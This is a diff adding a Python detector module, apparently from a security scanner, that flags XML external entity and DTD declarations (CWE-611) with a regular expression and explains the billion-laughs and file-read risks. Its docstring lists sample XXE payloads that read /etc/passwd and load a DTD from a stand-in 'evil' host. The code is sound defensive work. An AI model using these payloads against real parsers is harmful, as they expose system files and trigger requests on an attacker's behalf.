@@ -1,0 +1,55 @@
+"""XML external entities (CWE-611): a document type declaration that defines or loads entities.
+
+What it catches
+    ``<!DOCTYPE`` with an internal subset or an external identifier (``[``, ``SYSTEM``,
+    ``PUBLIC``), ``<!ENTITY`` declarations (general and parameter entities ``%name;``),
+    ``<!ELEMENT``/``<!ATTLIST`` declarations, XInclude (``<xi:include``,
+    ``xmlns:xi="http://www.w3.org/2001/XInclude"``), and XSLT documents that read files
+    (``document(``, ``unparsed-text(``).
+
+Why
+    An XML parser that resolves entities reads local files and makes requests for whoever
+    wrote the DTD, and nested entities exhaust memory (billion laughs). Data sent to an API
+    has no reason to carry a DTD.
+
+Examples
+    ``<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>``,
+    ``<!ENTITY % dtd SYSTEM "http://evil/x.dtd"> %dtd;``, ``<xi:include href="/etc/passwd"/>``.
+
+References
+    CWE-611, CWE-776; OWASP XXE Prevention Cheat Sheet; PayloadsAllTheThings "XXE Injection".
+"""
+
+from __future__ import annotations
+
+import re
+
+from ..model import Match
+from ._normalize import Views, hit, views
+
+ID = "xxe"
+CWE = "CWE-611"
+
+_PATTERN = re.compile(
+    r"<!doctype\s+[\w:.-]+\s?(?:\[|system\b|public\b)"
+    r"|<!(?:entity|element|attlist|notation)\s"
+    r"|<xi:include\b|xmlns:xi\s?=|\bxinclude\b"
+    r"|<xsl:(?:stylesheet|value-of|copy-of|include|import)\b[^>]{0,256}(?:document|unparsed-text|system-property)\s?\("
+    r"|\bunparsed-text\s?\(|<!\[cdata\[[^\]]{0,256}<!entity"
+)
+_GATE = re.compile(r"<[!x]|xinclude|unparsed")
+
+
+def detect_views(v: Views) -> Match | None:
+    low = v.low
+    if not _GATE.search(low):
+        return None
+    m = _PATTERN.search(low)
+    if m:
+        return hit(v, m.start(), m.end(), "XML entity or DTD declaration")
+    return None
+
+
+def detect(text: str) -> Match | None:
+    """The first XML external entity shape in ``text``, or None."""
+    return detect_views(views(text))
